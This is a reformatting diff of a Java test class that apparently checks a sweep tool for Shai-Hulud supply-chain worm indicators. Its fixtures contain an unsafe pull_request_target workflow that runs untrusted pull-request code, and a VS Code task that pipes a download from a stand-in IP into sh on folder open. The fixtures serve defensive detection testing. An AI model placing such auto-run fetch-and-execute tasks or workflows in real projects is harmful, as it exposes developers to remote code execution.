@@ -202,9 +202,7 @@ class SweepCommandTest {
         server.repository("acme/empty").described("Shai-Hulud Repository");
         server.repository("acme/near").described("Notes on Shai-Hulud").commit(Map.of("README.md", bytes("x")));
         server.repository("acme/web")
-                .commit(Map.of(
-                        ".github/workflows/pr.yml",
-                        bytes("""
+                .commit(Map.of(".github/workflows/pr.yml", bytes("""
                                 on: pull_request_target
                                 jobs:
                                   test:
@@ -214,9 +212,7 @@ class SweepCommandTest {
                                         with:
                                           ref: ${{ github.event.pull_request.head.sha }}
                                       - run: npm ci && npm test
-                                """),
-                        ".vscode/tasks.json",
-                        bytes("""
+                                """), ".vscode/tasks.json", bytes("""
                                 {"version": "2.0.0", "tasks": [{"label": "x", "type": "shell",
                                   "command": "curl -s https://198.51.100.7/a | sh", "runOptions": {"runOn": "folderOpen"}}]}
                                 """)));
